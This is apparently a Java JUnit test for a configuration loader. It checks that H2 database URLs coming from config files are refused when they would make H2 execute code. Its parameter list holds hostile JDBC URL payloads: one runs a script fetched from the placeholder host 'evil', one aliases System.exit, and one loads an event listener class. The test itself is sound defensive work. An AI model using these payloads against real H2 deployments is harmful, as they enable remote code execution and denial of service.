package dev.revise.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A file that comes with a change of somebody else's runs nothing. */
class FileUrlTest {
  @TempDir Path directory;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;USER=sa; init =CREATE ALIAS x FOR 'java.lang.System.exit(int)'",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'"
      })
  void with_what_h2_runs_is_refused(String url) {
    assertRefused(new Ground(directory).file(Ground.DB_CFG, url));
    assertRefused(new Ground(directory).file(Ground.TOML, "url = \"" + url + "\""));
    assertRefused(
        new Ground(directory)
            .file(Ground.HERA, "{\"databases\":{\"cdb_latiss\":{\"url\":\"" + url + "\"}}}"));
  }

  @Test
  void whoever_types_the_url_may_say_so() {
    assertThat(new Ground(directory).url("jdbc:h2:mem:x;INIT=SET @a 1").config().url())
        .startsWith("jdbc:h2:mem:x");
  }

  private static void assertRefused(Ground ground) {
    assertThatThrownBy(ground::config)
        .isInstanceOf(ConfigException.class)
        .hasMessageContaining("by which H2 runs what stands there; a file may not say that")
        .hasMessageNotContaining("evil");
  }
}
